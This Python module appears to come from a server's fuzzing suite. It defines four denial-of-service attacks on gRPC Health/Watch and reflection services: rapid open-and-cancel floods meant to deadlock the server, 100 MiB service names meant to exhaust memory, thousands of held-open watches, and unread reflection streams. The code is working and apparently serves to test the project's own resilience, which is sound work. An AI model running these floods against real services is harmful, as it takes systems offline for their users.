"""Watches of health, and other streams of the services that monitoring uses."""

from __future__ import annotations

from functools import partial
from itertools import count
from typing import TYPE_CHECKING

from grpc_reflection.v1alpha import reflection_pb2

from fuzz.attacks.attack import MIB, Target, attack, in_threads, repeat
from fuzz.attacks.messages import REFLECT, WATCH
from fuzz.attacks.raw_peer import RawPeer, framed
from poolrpc.v1 import standard_pb2

if TYPE_CHECKING:
    from threading import Event

    import grpc

LONG_NAME = 100 * MIB


def watch_request(service: str = "") -> bytes:
    """Return a request for the health of a service."""
    return standard_pb2.HealthCheckRequest(service=service).SerializeToString()


@attack()
def watches_opened_and_cancelled(target: Target, until: Event) -> None:
    """Open watches of health and cancel them within 20 ms (row C2: the whole server deadlocked after 31).

    Sent: Health/Watch by four clients, each cancelled as soon as its call has begun or its first answer has come.
    Aims at: locks between health's own and those of gRPC's only serving thread.
    """

    def watch(channel: grpc.Channel, wait: float) -> None:
        call = channel.unary_stream(WATCH)(watch_request(), metadata=target.headers, timeout=5)
        until.wait(wait)
        call.cancel()

    def flood(wait: float) -> None:
        with target.channel() as channel:
            repeat(until, partial(watch, channel, wait))

    in_threads(*(partial(flood, wait) for wait in (0.001, 0.003, 0.008, 0.02)))


@attack()
def watches_of_long_names(target: Target, until: Event) -> None:
    """Watch services with names of 100 MiB, and cancel (row C7: every name stayed in memory permanently).

    Sent: Health/Watch and Health/Check for a service whose name has 100 MiB, each another one.
    Aims at: memory, kept by name.
    """
    numbers = count()

    def call(channel: grpc.Channel) -> None:
        message = b"\x0a\x80\x80\x80\x32" + f"{next(numbers):08d}".encode() + b"x" * (LONG_NAME - 8)
        # A watch of an unknown service is answered, and stays open.
        watch = channel.unary_stream(WATCH)(message, metadata=target.headers, timeout=2)
        next(watch)
        watch.cancel()

    with target.channel(("grpc.max_send_message_length", -1)) as channel:
        repeat(until, partial(call, channel))


@attack()
def watches_kept_open(target: Target, until: Event) -> None:
    """Open a thousand watches of unknown services on a connection and keep them (of the kind of C7).

    Sent: Health/Watch for a thousand names of 1 KiB; nothing is read that flow control would have to let pass.
    Aims at: memory and threads by watcher.
    """
    numbers = count()

    def hold() -> None:
        with RawPeer(target.address, window=0, timeout=0.5) as peer:
            for _ in range(1000):
                name = f"{next(numbers):08d}" + "x" * 1016
                peer.send(peer.open(WATCH, *target.headers), framed(watch_request(name)))
            until.wait(1)

    repeat(until, hold)


@attack()
def reflection_streams(target: Target, until: Event) -> None:
    """Hold reflection's streams, and send it many requests whose answers are not read (of the kind of C5 and C4).

    Sent: 32 streams of ServerReflectionInfo, half of them silent, half with a thousand requests and a window of 0.
    Aims at: reflection's threads, and memory of unread answers.
    """
    request = reflection_pb2.ServerReflectionRequest(file_containing_symbol="inference.GRPCInferenceService")
    message = framed(request.SerializeToString())

    def hold() -> None:
        with RawPeer(target.address, window=0, timeout=0.5) as peer:
            for number in range(32):
                stream = peer.open(REFLECT, *target.headers)
                if number % 2:
                    peer.send(stream, message * 1000, end=False)
            peer.flush()
            until.wait(2)

    repeat(until, hold)
